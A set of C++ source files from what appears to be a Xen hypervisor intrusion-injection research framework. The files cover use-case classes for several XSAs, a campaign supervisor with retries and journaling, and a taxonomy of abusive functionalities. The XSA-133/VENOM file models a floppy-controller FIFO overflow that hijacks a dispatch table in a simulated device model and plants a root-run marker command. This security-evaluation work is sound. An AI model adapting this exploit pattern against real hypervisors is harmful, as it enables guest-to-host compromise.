  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] std::string erroneous_state_description(
      guest::VirtualPlatform& p) const override;
};

/// XSA-182: create a read-only L4 self map (linear page table), flip its RW
/// bit through the unvalidated fast path, then prove writability by storing
/// a test entry into the own page directory through the self map.
class Xsa182Test final : public core::UseCase {
 public:
  /// Slot of the self-map test write ("page_directory[42]" in the PoC log).
  static constexpr unsigned kProbeSlot = 42;

  [[nodiscard]] std::string name() const override { return "XSA-182-test"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] std::string erroneous_state_description(
      guest::VirtualPlatform& p) const override;
};

/// All four, in Table II order.
std::vector<std::unique_ptr<core::UseCase>> make_paper_use_cases();

// ---------------------------------------------------------------- extensions
// Intrusion models beyond the paper's four use cases, exercising the
// future-work directions the paper names: the grant-table Keep-Page-Access
// family (§IV-B) and malicious-interrupt availability states (§IX-C).

/// XSA-387 family: a guest upgrades to grant table v2, downgrades to v1,
/// and retains access to the Xen-owned status page ("Keep Page Access").
class Xsa387Keep final : public core::UseCase {
 public:
  [[nodiscard]] std::string name() const override { return "XSA-387-keep"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;
};

/// Interrupt-storm intrusion model: pending bits raised for handler-less
/// event ports wedge the pre-hardening delivery loop ("Induce a Hang
/// State" / "Uncontrolled Arbitrary Interrupts Requests"). There is no
/// public exploit for this family — which is exactly the situation
/// intrusion injection is designed for (paper capability ii).
class EvtchnStorm final : public core::UseCase {
 public:
  [[nodiscard]] std::string name() const override { return "EVTCHN-storm"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;
};

/// Recycled-frame disclosure: the operator destroys a tenant and its
/// frames return to the heap; without eager scrubbing a co-tenant that
/// balloons pages back in reads the dead tenant's data ("Read Unauthorized
/// Memory" from the management interface, §IX-C's second direction).
class DestroyLeak final : public core::UseCase {
 public:
  [[nodiscard]] std::string name() const override { return "DESTROY-leak"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;

 private:
  /// First MFN and page count of the victim's allocation, captured per run
  /// (the platform is gone-by-inspection once the domain is destroyed).
  std::pair<std::uint64_t, std::uint64_t> victim_range_{0, 0};
};

/// XSA-133 / VENOM (the paper's §III-A motivating example): a guest
/// overflows the device model's FDC command FIFO into its dispatch table
/// and gains code execution in the emulator process (root in dom0). The
/// injection variant follows §III-B: overwrite the FDC request handler in
/// the emulator's process memory, then issue an ordinary I/O request.
class Xsa133Venom final : public core::UseCase {
 public:
  Xsa133Venom();
  ~Xsa133Venom() override;  // out of line: DeviceModel is incomplete here
  [[nodiscard]] std::string name() const override { return "XSA-133-venom"; }
  [[nodiscard]] core::IntrusionModel model() const override;
  core::CaseOutcome run_exploit(guest::VirtualPlatform& p) override;
  core::CaseOutcome run_injection(guest::VirtualPlatform& p) override;
  [[nodiscard]] bool erroneous_state_present(
      guest::VirtualPlatform& p) const override;
  [[nodiscard]] bool security_violation(
      guest::VirtualPlatform& p) const override;

 private:
  /// Per-run device model (lives only as long as the run's platform).
  std::unique_ptr<dm::DeviceModel> device_;
};

/// The extension use cases above.
std::vector<std::unique_ptr<core::UseCase>> make_extension_use_cases();

}  // namespace ii::xsa
