// XSA-133 / VENOM use case (the paper's §III-A motivating example,
// CVE-2015-3456): the device model's floppy controller accepts parameter
// bytes without a bounds check; a malicious guest overflows the command
// FIFO into the adjacent dispatch table, and the next matching command
// "executes" attacker data with the device model's privilege — root in
// dom0.
//
// The injection variant is §III-B verbatim: "the intrusion injection tool
// could change the QEMU process to allow the injection of the
// corresponding error, e.g., by overwriting the FDC request handler
// method" — two physical writes into the emulator's process memory, then
// ordinary guest I/O activates the state.
#include "core/injector.hpp"
#include "dm/device_model.hpp"
#include "guest/payload.hpp"
#include "xsa/detail.hpp"
#include "xsa/usecases.hpp"

namespace ii::xsa {

namespace {

/// Marker the payload leaves behind in dom0 when it runs.
constexpr const char* kPwnPath = "/tmp/dm_pwned";

/// The command the hijacked device model runs (as root, in dom0).
constexpr const char* kPwnCommand =
    "echo \"|$(id)|@$(hostname)\" > /tmp/dm_pwned";

std::vector<std::uint8_t> encode_payload() {
  guest::Payload payload{};
  payload.op = guest::PayloadOp::RunCommandAllDomains;  // DM runs it locally
  payload.command = kPwnCommand;
  std::vector<std::uint8_t> bytes(256);
  bytes.resize(payload.encode(bytes));
  return bytes;
}

/// Guest driver: issue the ReadId command that dispatches through the
/// (possibly corrupted) table slot.
dm::IoResult trigger_dispatch(dm::DeviceModel& device) {
  const dm::IoResult a = device.outb(dm::kFdcFifoPort, dm::kCmdReadId);
  if (a != dm::IoResult::Ok) return a;
  return device.outb(dm::kFdcFifoPort, 0x00);  // the single parameter byte
}

}  // namespace

Xsa133Venom::Xsa133Venom() = default;
Xsa133Venom::~Xsa133Venom() = default;

core::IntrusionModel Xsa133Venom::model() const {
  return core::IntrusionModel{
      .source = core::TriggeringSource::DeviceDriver,
      .component = core::TargetComponent::IoEmulation,
      .interface = core::InteractionInterface::IoRequest,
      .functionality = core::AbusiveFunctionality::WriteUnauthorizedMemory,
      .erroneous_state =
          "FDC dispatch table corrupted inside the device-model process",
  };
}

core::CaseOutcome Xsa133Venom::run_exploit(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  device_ = std::make_unique<dm::DeviceModel>(p.dom0(), guest);
  dm::DeviceModel& device = *device_;

  detail::note(out, guest, "fdc: sending DRIVE SPECIFICATION command");
  (void)device.outb(dm::kFdcFifoPort, dm::kCmdDriveSpecification);

  // Park the payload in the FIFO (clear of the trigger's scratch bytes)...
  const auto payload = encode_payload();
  for (std::uint64_t i = 0; i < dm::FdcLayout::kPayloadFifoOffset; ++i) {
    (void)device.outb(dm::kFdcFifoPort, 0x00);
  }
  for (const std::uint8_t byte : payload) {
    (void)device.outb(dm::kFdcFifoPort, byte);
  }
  // ...pad up to the dispatch slot of the trigger command...
  const std::uint64_t slot_offset =
      dm::FdcLayout::kFifoSize +
      dm::FdcLayout::slot_of(dm::kCmdReadId) * 8;
  for (std::uint64_t i = dm::FdcLayout::kPayloadFifoOffset + payload.size();
       i < slot_offset; ++i) {
    (void)device.outb(dm::kFdcFifoPort, 0x00);
  }
  detail::note(out, guest,
               "fdc: overflowing FIFO into the dispatch table (+" +
                   std::to_string(slot_offset - dm::FdcLayout::kFifoSize) +
                   " bytes)");
  // ...clobber the slot and terminate the parameter list.
  for (int i = 0; i < 8; ++i) (void)device.outb(dm::kFdcFifoPort, 0x41);
  (void)device.outb(dm::kFdcFifoPort, 0x80);  // DONE bit

  if (!device.handler_table_corrupted()) {
    detail::note(out, guest,
                 "fdc: controller bounded the FIFO (vulnerability fixed)");
    return out;
  }
  detail::note(out, guest, "fdc: dispatch table corrupted");

  detail::note(out, guest, "fdc: triggering hijacked command");
  (void)trigger_dispatch(device);
  out.completed = device.hijacked_dispatches() > 0;
  return out;
}

core::CaseOutcome Xsa133Venom::run_injection(guest::VirtualPlatform& p) {
  core::CaseOutcome out;
  guest::GuestKernel& guest = p.guest(0);
  device_ = std::make_unique<dm::DeviceModel>(p.dom0(), guest);
  dm::DeviceModel& device = *device_;

  // Inject the erroneous state straight into the emulator process: payload
  // into the FIFO region, garbage over the request handler's slot.
  core::ArbitraryAccessInjector injector{guest};
  const auto payload = encode_payload();
  detail::note(out, guest, "injecting payload into qemu-dm FIFO region");
  if (!injector.write(
          device.arena_paddr().raw() + dm::FdcLayout::kFifoOffset +
              dm::FdcLayout::kPayloadFifoOffset,
          payload,
          core::AddressMode::Physical)) {
    out.rc = injector.last_rc();
    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
                                 hv::errno_name(out.rc));
    return out;
  }
  detail::note(out, guest, "overwriting the FDC request handler entry");
  if (!injector.write_u64(
          device.handler_table_paddr().raw() +
              dm::FdcLayout::slot_of(dm::kCmdReadId) * 8,
          0x4141414141414141ULL, core::AddressMode::Physical)) {
    out.rc = injector.last_rc();
    return out;
  }
  out.rc = injector.last_rc();

  detail::note(out, guest, "issuing an IO request similar to a VENOM attack");
  const dm::IoResult result = trigger_dispatch(device);
  if (result == dm::IoResult::DeviceAborted) {
    detail::note(out, guest,
                 "qemu-dm aborted on dispatch-table integrity check");
  }
  out.completed = true;
  return out;
}

bool Xsa133Venom::erroneous_state_present(guest::VirtualPlatform& p) const {
  (void)p;
  return device_ != nullptr && device_->handler_table_corrupted();
}

bool Xsa133Venom::security_violation(guest::VirtualPlatform& p) const {
  const auto content = p.dom0().fs().read(kPwnPath, /*uid=*/0);
  return content.has_value() &&
         content->find("uid=0(root)") != std::string::npos;
}

}  // namespace ii::xsa
