#include "core/supervisor.hpp"

#include <atomic>
#include <fstream>
#include <map>
#include <mutex>
#include <thread>

#include "core/journal.hpp"

namespace ii::core {

namespace {

std::string cell_key(const std::string& use_case, hv::XenVersion version,
                     Mode mode) {
  return use_case + "|" + version.to_string() + "|" + to_string(mode);
}

}  // namespace

std::string CampaignSupervisor::header() const {
  return journal_header(campaign_, config_.max_attempts,
                        config_.quarantine_after);
}

std::vector<CellResult> CampaignSupervisor::run(
    const std::function<std::vector<std::unique_ptr<UseCase>>()>& factory)
    const {
  const Campaign campaign{campaign_};
  const std::string header_line = header();

  // Resume: restore journaled cells, keyed so file order is irrelevant.
  std::map<std::string, CellResult> journaled;
  if (config_.resume && !config_.journal_path.empty()) {
    for (CellResult& cell :
         load_journal(config_.journal_path, header_line)) {
      const std::string key = cell_key(cell.use_case, cell.version, cell.mode);
      journaled.insert_or_assign(key, std::move(cell));
    }
  }

  // (Re)write the journal: header plus the restored cells. Rewriting on
  // resume drops any torn final line a killed run left behind, so appends
  // always land on a well-formed file.
  std::ofstream journal;
  std::mutex journal_mu;
  if (!config_.journal_path.empty()) {
    journal.open(config_.journal_path, std::ios::trunc);
    journal << header_line << '\n';
    for (const auto& [key, cell] : journaled) {
      journal << journal_entry(cell) << '\n';
    }
    journal.flush();
  }

  // Use-case names define the matrix rows; probe one factory instance.
  std::vector<std::string> names;
  for (const auto& use_case : factory()) names.push_back(use_case->name());

  const std::size_t per_case =
      campaign_.versions.size() * campaign_.modes.size();
  std::vector<CellResult> results(names.size() * per_case);

  // Workers claim whole use cases (see file header for why that — and only
  // that — keeps retry/quarantine deterministic under parallelism).
  std::atomic<std::size_t> next_case{0};
  const unsigned n_workers = std::max(
      1u, std::min<unsigned>(config_.threads,
                             static_cast<unsigned>(names.size())));

  obs::StatusBoard* const status = campaign_.status;
  if (status != nullptr) status->campaign_begin(results.size(), n_workers);
  // Per-worker span lanes (profilers are single-writer), merged after the
  // join. Retry/quarantine decisions are per-use-case and workers claim
  // whole use cases, so the merged supervisor spans are deterministic at
  // any thread count — the same guarantee the result matrix itself has.
  std::vector<std::unique_ptr<obs::SpanProfiler>> lanes;
  if (campaign_.profiler != nullptr) {
    lanes.reserve(n_workers);
    for (unsigned w = 0; w < n_workers; ++w) {
      lanes.push_back(
          std::make_unique<obs::SpanProfiler>(campaign_.profiler->epoch()));
      lanes.back()->set_tid(w);
      lanes.back()->set_record_events(campaign_.profiler->record_events());
    }
  }

  auto worker_body = [&](unsigned w) {
    obs::SpanProfiler* const lane = lanes.empty() ? nullptr : lanes[w].get();
    auto cases = factory();
    // Warm platforms are per-worker (not thread-safe); retries of a cell
    // lease the same platform again, rewound to its baseline in between.
    PlatformPool pool;
    while (true) {
      const std::size_t c = next_case.fetch_add(1);
      if (c >= names.size()) return;

      unsigned failure_streak = 0;
      bool quarantined = false;
      std::size_t slot = c * per_case;
      for (const hv::XenVersion version : campaign_.versions) {
        for (const Mode mode : campaign_.modes) {
          const std::string key = cell_key(names[c], version, mode);
          CellResult cell;
          bool from_journal = false;

          if (const auto it = journaled.find(key); it != journaled.end()) {
            cell = it->second;
            from_journal = true;
          } else if (quarantined) {
            cell.use_case = names[c];
            cell.version = version;
            cell.mode = mode;
            cell.attempts = 0;
            cell.quarantined = true;
            cell.failure = "quarantined after " +
                           std::to_string(failure_streak) +
                           " consecutive cell failures";
            cell.outcome.completed = false;
            if (lane != nullptr) {
              lane->add({obs::kSpanSupervisor, obs::kSpanQuarantine}, 1, 1);
            }
          } else {
            unsigned attempt = 0;
            do {
              ++attempt;
              if (attempt > 1) {
                // Each re-run beyond the first attempt is one retry.
                if (lane != nullptr) {
                  lane->add({obs::kSpanSupervisor, obs::kSpanRetry}, 1, 1);
                }
                if (status != nullptr) status->add_retry();
              }
              cell = campaign.run_cell(*cases[c], version, mode, pool, lane);
            } while (cell.failed() && attempt < config_.max_attempts);
            cell.attempts = attempt;
          }

          // Streak/quarantine bookkeeping applies identically to fresh and
          // journaled cells: the journal holds the same results a live run
          // would produce, so the replayed decisions match the original's.
          if (!cell.quarantined) {
            if (cell.failed()) {
              ++failure_streak;
            } else {
              failure_streak = 0;
            }
            if (config_.quarantine_after != 0 &&
                failure_streak >= config_.quarantine_after) {
              quarantined = true;
            }
          }
          if (status != nullptr) {
            if (cell.quarantined) status->add_quarantine();
            if (cell.recovered) status->add_recovered();
          }

          // Surface the supervisor verdicts through the metrics snapshot so
          // merged campaign summaries report them alongside trace counters.
          cell.metrics.counters["supervisor.attempts"] = cell.attempts;
          cell.metrics.counters["supervisor.failed"] = cell.failed() ? 1 : 0;
          cell.metrics.counters["supervisor.recovered"] =
              cell.recovered ? 1 : 0;
          cell.metrics.counters["supervisor.quarantined"] =
              cell.quarantined ? 1 : 0;

          if (journal.is_open() && !from_journal) {
            obs::ScopedSpan journal_span{
                lane, {obs::kSpanSupervisor, obs::kSpanJournal}};
            journal_span.add_steps(1);
            const std::lock_guard<std::mutex> lock{journal_mu};
            journal << journal_entry(cell) << '\n';
            journal.flush();  // each cell durable before the next one runs
          }
          if (status != nullptr) status->cell_done(w, cell.failed());
          results[slot++] = std::move(cell);
        }
      }
    }
  };

  if (n_workers == 1) {
    worker_body(0);
  } else {
    std::vector<std::thread> workers;
    workers.reserve(n_workers);
    for (unsigned w = 0; w < n_workers; ++w) {
      workers.emplace_back(worker_body, w);
    }
    for (std::thread& worker : workers) worker.join();
  }
  if (status != nullptr) status->campaign_end();
  for (const auto& lane : lanes) campaign_.profiler->merge(*lane);
  return results;
}

}  // namespace ii::core
