#include "core/supervisor.hpp"

#include <atomic>
#include <chrono>
#include <deque>
#include <map>
#include <mutex>
#include <optional>
#include <thread>

#include "core/chaos.hpp"
#include "core/journal.hpp"

namespace ii::core {

namespace {

std::string cell_key(const std::string& use_case, hv::XenVersion version,
                     Mode mode) {
  return use_case + "|" + version.to_string() + "|" + to_string(mode);
}

/// Exponential backoff with deterministic jitter: base << (attempt-2),
/// capped, plus a jitter of up to half the delay drawn from a splitmix64
/// stream seeded by (cell key, attempt). A pure function of the cell and
/// attempt number — every run of the same campaign backs off identically,
/// and retries of different cells de-synchronize instead of stampeding.
std::uint64_t backoff_us(std::uint64_t base_us, const std::string& key,
                         unsigned attempt) {
  if (base_us == 0 || attempt < 2) return 0;
  const unsigned shift = std::min(attempt - 2, 10u);
  const std::uint64_t delay = base_us << shift;
  std::uint64_t stream = fnv1a64(key) ^ (0x9E3779B97F4A7C15ULL * attempt);
  const std::uint64_t jitter = splitmix64_next(stream) % (delay / 2 + 1);
  return delay + jitter;
}

/// worker.stall chaos: burn a bounded, deterministic amount of budget
/// (wall time only — no observable state changes) so watchdog and
/// heartbeat machinery sees a slow worker.
void chaos_stall() {
  volatile std::uint64_t sink = 0;
  for (std::uint64_t i = 0; i < 2'000'000; ++i) sink = sink + i;
}

}  // namespace

std::string CampaignSupervisor::header() const {
  return journal_header(campaign_, config_.max_attempts,
                        config_.quarantine_after);
}

std::vector<CellResult> CampaignSupervisor::run(
    const std::function<std::vector<std::unique_ptr<UseCase>>()>& factory)
    const {
  const Campaign campaign{campaign_};
  const std::string header_line = header();

  // Resume: restore journaled cells, keyed so file order is irrelevant.
  // Torn/corrupt lines are counted, not silently dropped — the count is
  // surfaced as supervisor.journal_skipped below, and the lost cells
  // simply re-run.
  std::map<std::string, CellResult> journaled;
  std::uint64_t journal_skipped = 0;
  if (config_.resume && !config_.journal_path.empty()) {
    JournalLoad load = load_journal(config_.journal_path, header_line);
    journal_skipped = load.skipped;
    for (CellResult& cell : load.cells) {
      const std::string key = cell_key(cell.use_case, cell.version, cell.mode);
      journaled.insert_or_assign(key, std::move(cell));
    }
  }

  // (Re)write the journal: header plus the restored cells. Rewriting on
  // resume drops any torn/corrupt lines a killed or faulty run left
  // behind, so appends always land on a well-formed file. A rewrite
  // append that fails (chaos or disk) only loses that cell's resume
  // entry — it re-runs on the next resume.
  JournalWriter journal;
  std::mutex journal_mu;
  if (!config_.journal_path.empty()) {
    journal.open(config_.journal_path, header_line);
    for (const auto& [key, cell] : journaled) (void)journal.append(cell);
  }

  // Use-case names define the matrix rows; probe one factory instance.
  std::vector<std::string> names;
  for (const auto& use_case : factory()) names.push_back(use_case->name());

  const std::size_t per_case =
      campaign_.versions.size() * campaign_.modes.size();
  std::vector<CellResult> results(names.size() * per_case);

  // Workers claim whole use cases (see file header for why that — and only
  // that — keeps retry/quarantine deterministic under parallelism). Claims
  // released by a crashed worker take priority over fresh ones so a
  // crashed claim can never be stranded behind the tail of the matrix.
  std::atomic<std::size_t> next_case{0};
  std::mutex released_mu;
  std::deque<std::size_t> released;
  std::atomic<std::uint64_t> worker_crashes{0};
  std::atomic<bool> killed{false};
  // Backstop against a crash-looping plan: once every use case could have
  // crashed a few times over, stop honoring the crash point so the
  // campaign always terminates.
  const std::uint64_t crash_cap = names.size() * 4 + 16;

  const auto claim = [&]() -> std::optional<std::size_t> {
    {
      const std::lock_guard<std::mutex> lock{released_mu};
      if (!released.empty()) {
        const std::size_t c = released.front();
        released.pop_front();
        return c;
      }
    }
    const std::size_t c = next_case.fetch_add(1);
    if (c < names.size()) return c;
    return std::nullopt;
  };
  const auto unfinished = [&] {
    const std::lock_guard<std::mutex> lock{released_mu};
    return !released.empty() || next_case.load() < names.size();
  };

  const unsigned n_workers = std::max(
      1u, std::min<unsigned>(config_.threads,
                             static_cast<unsigned>(names.size())));

  obs::StatusBoard* const status = campaign_.status;
  if (status != nullptr) status->campaign_begin(results.size(), n_workers);
  // Per-worker span lanes (profilers are single-writer), merged after the
  // join. Retry/quarantine decisions are per-use-case and workers claim
  // whole use cases, so the merged supervisor spans are deterministic at
  // any thread count — the same guarantee the result matrix itself has.
  // (Chaos spans are the exception and are recorded as Sched.) Respawned
  // workers reuse their predecessor's lane: rounds are sequential, so the
  // single-writer discipline holds.
  std::vector<std::unique_ptr<obs::SpanProfiler>> lanes;
  if (campaign_.profiler != nullptr) {
    lanes.reserve(n_workers);
    for (unsigned w = 0; w < n_workers; ++w) {
      lanes.push_back(
          std::make_unique<obs::SpanProfiler>(campaign_.profiler->epoch()));
      lanes.back()->set_tid(w);
      lanes.back()->set_record_events(campaign_.profiler->record_events());
    }
  }

  // Run one claimed use case to completion: the full (version, mode) row
  // in matrix order, with retry/quarantine decided by that ordered
  // history. Chaos worker faults propagate out as WorkerCrash.
  const auto run_use_case = [&](std::size_t c, unsigned w,
                                std::vector<std::unique_ptr<UseCase>>& cases,
                                PlatformPool& pool,
                                obs::SpanProfiler* lane) {
    unsigned failure_streak = 0;
    bool quarantined = false;
    std::size_t slot = c * per_case;
    for (const hv::XenVersion version : campaign_.versions) {
      for (const Mode mode : campaign_.modes) {
        if (killed.load()) return;
        const std::string key = cell_key(names[c], version, mode);
        CellResult cell;
        bool from_journal = false;

        if (const auto it = journaled.find(key); it != journaled.end()) {
          cell = it->second;
          from_journal = true;
        } else if (quarantined) {
          cell.use_case = names[c];
          cell.version = version;
          cell.mode = mode;
          cell.attempts = 0;
          cell.quarantined = true;
          cell.failure = "quarantined after " +
                         std::to_string(failure_streak) +
                         " consecutive cell failures";
          cell.outcome.completed = false;
          if (lane != nullptr) {
            lane->add({obs::kSpanSupervisor, obs::kSpanQuarantine}, 1, 1);
          }
        } else {
          // Chaos worker faults sit where a real scheduler fault would:
          // between cells, while the use case is claimed but the cell has
          // not started. A crash here leaves no half-run cell behind.
          if (chaos_fire("worker.stall")) {
            if (lane != nullptr) {
              lane->add({obs::kSpanSupervisor, obs::kSpanChaos}, 1, 1,
                        obs::SpanKind::Sched);
            }
            chaos_stall();
          }
          if (chaos_fire("worker.crash")) throw WorkerCrash{};

          unsigned attempt = 0;
          do {
            ++attempt;
            if (attempt > 1) {
              // Each re-run beyond the first attempt is one retry, with
              // exponential backoff + deterministic jitter between
              // attempts (escalation rung 1).
              if (lane != nullptr) {
                lane->add({obs::kSpanSupervisor, obs::kSpanRetry}, 1, 1);
              }
              if (status != nullptr) status->add_retry();
              if (const std::uint64_t us =
                      backoff_us(config_.retry_backoff_us, key, attempt);
                  us > 0) {
                std::this_thread::sleep_for(std::chrono::microseconds{us});
              }
            }
            cell = campaign.run_cell(*cases[c], version, mode, pool, lane);
          } while (cell.failed() && attempt < config_.max_attempts);
          cell.attempts = attempt;
        }

        // Streak/quarantine bookkeeping applies identically to fresh and
        // journaled cells: the journal holds the same results a live run
        // would produce, so the replayed decisions match the original's.
        if (!cell.quarantined) {
          if (cell.failed()) {
            ++failure_streak;
          } else {
            failure_streak = 0;
          }
          if (config_.quarantine_after != 0 &&
              failure_streak >= config_.quarantine_after) {
            quarantined = true;
            // Escalation rung 4: the repeated failures may have poisoned
            // this worker's warm platforms; drop them so later use cases
            // boot fresh.
            pool.clear();
          }
        }
        if (status != nullptr) {
          if (cell.quarantined) status->add_quarantine();
          if (cell.recovered) status->add_recovered();
        }

        // Surface the supervisor verdicts through the metrics snapshot so
        // merged campaign summaries report them alongside trace counters.
        cell.metrics.counters["supervisor.attempts"] = cell.attempts;
        cell.metrics.counters["supervisor.failed"] = cell.failed() ? 1 : 0;
        cell.metrics.counters["supervisor.recovered"] =
            cell.recovered ? 1 : 0;
        cell.metrics.counters["supervisor.quarantined"] =
            cell.quarantined ? 1 : 0;

        if (journal.is_open() && !from_journal) {
          obs::ScopedSpan journal_span{
              lane, {obs::kSpanSupervisor, obs::kSpanJournal}};
          journal_span.add_steps(1);
          const std::lock_guard<std::mutex> lock{journal_mu};
          (void)journal.append(cell);
          // The kill point rides on fresh appends only: "the process died
          // after journaling its Nth new cell" is the scenario resume
          // must survive.
          if (chaos_fire("supervisor.kill")) killed.store(true);
        }
        if (status != nullptr) status->cell_done(w, cell.failed());
        results[slot] = std::move(cell);
        ++slot;
      }
    }
  };

  auto worker_body = [&](unsigned w) {
    obs::SpanProfiler* const lane = lanes.empty() ? nullptr : lanes[w].get();
    auto cases = factory();
    // Warm platforms are per-worker (not thread-safe); retries of a cell
    // lease the same platform again, rewound to its baseline in between.
    PlatformPool pool;
    while (!killed.load()) {
      const auto c = claim();
      if (!c) return;
      try {
        run_use_case(*c, w, cases, pool, lane);
      } catch (const WorkerCrash&) {
        // This worker is "dead": release the claim so a surviving (or
        // respawned) worker re-claims the use case and re-runs it from
        // its first cell — deterministic cells make the re-run land the
        // identical results in the same slots.
        {
          const std::lock_guard<std::mutex> lock{released_mu};
          released.push_back(*c);
        }
        if (worker_crashes.fetch_add(1) + 1 >= crash_cap) {
          if (ChaosEngine* const engine = ChaosEngine::instance()) {
            engine->disable("worker.crash");
          }
        }
        if (lane != nullptr) {
          lane->add({obs::kSpanSupervisor, obs::kSpanChaos}, 1, 1,
                    obs::SpanKind::Sched);
        }
        return;
      }
    }
  };

  const auto run_round = [&] {
    if (n_workers == 1) {
      worker_body(0);
    } else {
      std::vector<std::thread> workers;
      workers.reserve(n_workers);
      for (unsigned w = 0; w < n_workers; ++w) {
        workers.emplace_back(worker_body, w);
      }
      for (std::thread& worker : workers) worker.join();
    }
  };

  // Round 1 plus respawn rounds: a round ends when every worker returned —
  // all claims done, or some workers crashed. Crashed claims sit in
  // `released`, so respawned workers drain them; the crash cap above
  // guarantees the loop terminates.
  run_round();
  while (!killed.load() && unfinished()) run_round();

  if (status != nullptr) status->campaign_end();
  for (const auto& lane : lanes) campaign_.profiler->merge(*lane);

  if (killed.load()) throw CampaignKilled{};

  // Robustness bookkeeping rides on the first cell's counters (cells are
  // merged in order, so the campaign aggregate sees it exactly once).
  if (!results.empty()) {
    auto& counters = results.front().metrics.counters;
    if (journal_skipped > 0) {
      counters["supervisor.journal_skipped"] += journal_skipped;
    }
    if (journal.errors() > 0) {
      counters["supervisor.journal_errors"] += journal.errors();
    }
    if (worker_crashes.load() > 0) {
      counters["supervisor.worker_crashes"] += worker_crashes.load();
    }
    if (ChaosEngine* const engine = ChaosEngine::instance()) {
      counters["chaos.fired"] += engine->total_fired();
    }
  }
  return results;
}

}  // namespace ii::core
