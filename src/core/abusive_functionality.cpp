#include "core/abusive_functionality.hpp"

namespace ii::core {

FunctionalityClass class_of(AbusiveFunctionality af) {
  switch (af) {
    case AbusiveFunctionality::ReadUnauthorizedMemory:
    case AbusiveFunctionality::WriteUnauthorizedMemory:
    case AbusiveFunctionality::WriteUnauthorizedArbitraryMemory:
    case AbusiveFunctionality::ReadWriteUnauthorizedMemory:
    case AbusiveFunctionality::FailMemoryAccess:
      return FunctionalityClass::MemoryAccess;
    case AbusiveFunctionality::CorruptVirtualMemoryMapping:
    case AbusiveFunctionality::CorruptPageReference:
    case AbusiveFunctionality::DecreasePageMappingAvailability:
    case AbusiveFunctionality::GuestWritablePageTableEntry:
    case AbusiveFunctionality::FailMemoryMapping:
    case AbusiveFunctionality::UncontrolledMemoryAllocation:
    case AbusiveFunctionality::KeepPageAccess:
      return FunctionalityClass::MemoryManagement;
    case AbusiveFunctionality::InduceFatalException:
    case AbusiveFunctionality::InduceMemoryException:
      return FunctionalityClass::ExceptionalConditions;
    case AbusiveFunctionality::InduceHangState:
    case AbusiveFunctionality::UncontrolledArbitraryInterruptRequests:
      return FunctionalityClass::NonMemoryRelated;
  }
  return FunctionalityClass::NonMemoryRelated;
}

std::string to_string(AbusiveFunctionality af) {
  switch (af) {
    case AbusiveFunctionality::ReadUnauthorizedMemory:
      return "Read Unauthorized Memory";
    case AbusiveFunctionality::WriteUnauthorizedMemory:
      return "Write Unauthorized Memory";
    case AbusiveFunctionality::WriteUnauthorizedArbitraryMemory:
      return "Write Unauthorized Arbitrary Memory";
    case AbusiveFunctionality::ReadWriteUnauthorizedMemory:
      return "R/W Unauthorized Memory";
    case AbusiveFunctionality::FailMemoryAccess:
      return "Fail a Memory Access";
    case AbusiveFunctionality::CorruptVirtualMemoryMapping:
      return "Corrupt Virtual Memory Mapping";
    case AbusiveFunctionality::CorruptPageReference:
      return "Corrupt a Page Reference";
    case AbusiveFunctionality::DecreasePageMappingAvailability:
      return "Decrease Page Mapping Availability";
    case AbusiveFunctionality::GuestWritablePageTableEntry:
      return "Guest-Writable Page Table Entry";
    case AbusiveFunctionality::FailMemoryMapping:
      return "Fail a memory mapping";
    case AbusiveFunctionality::UncontrolledMemoryAllocation:
      return "Uncontrolled Memory Allocation";
    case AbusiveFunctionality::KeepPageAccess:
      return "Keep Page Access";
    case AbusiveFunctionality::InduceFatalException:
      return "Induce a Fatal Exception";
    case AbusiveFunctionality::InduceMemoryException:
      return "Induce a Memory Exception";
    case AbusiveFunctionality::InduceHangState:
      return "Induce a Hang State";
    case AbusiveFunctionality::UncontrolledArbitraryInterruptRequests:
      return "Uncontrolled Arbitrary Interrupts Requests";
  }
  return "unknown";
}

std::string to_string(FunctionalityClass fc) {
  switch (fc) {
    case FunctionalityClass::MemoryAccess: return "Memory Access";
    case FunctionalityClass::MemoryManagement: return "Memory Management";
    case FunctionalityClass::ExceptionalConditions:
      return "Exceptional Conditions";
    case FunctionalityClass::NonMemoryRelated: return "Non-Memory Related";
  }
  return "unknown";
}

}  // namespace ii::core
