// Randomized erroneous-state injection (paper §IV-C):
//
//   "Relevant erroneous states can be difficult to be designed by a tester.
//    ... One possibility is to randomize inputs to an injector, creating an
//    approach that resembles fuzzing testing but in another level of
//    interaction, in a post-attack phase."
//
// This module implements that suggestion for the memory-corruption intrusion
// model family: each iteration boots a fresh platform, drives one randomized
// write-what-where erroneous state through the arbitrary-access injector
// (targets drawn from the paging structures, the IDT, the shared Xen L3, or
// wild machine addresses), attempts to activate it with ordinary guest
// behaviour, and classifies what the system did with it.
#pragma once

#include <cstdint>
#include <map>
#include <string>

#include "guest/platform.hpp"

namespace ii::core {

/// Classified consequence of one randomized injection.
enum class FuzzOutcome {
  NoObservableEffect,   ///< nothing the monitor can see changed
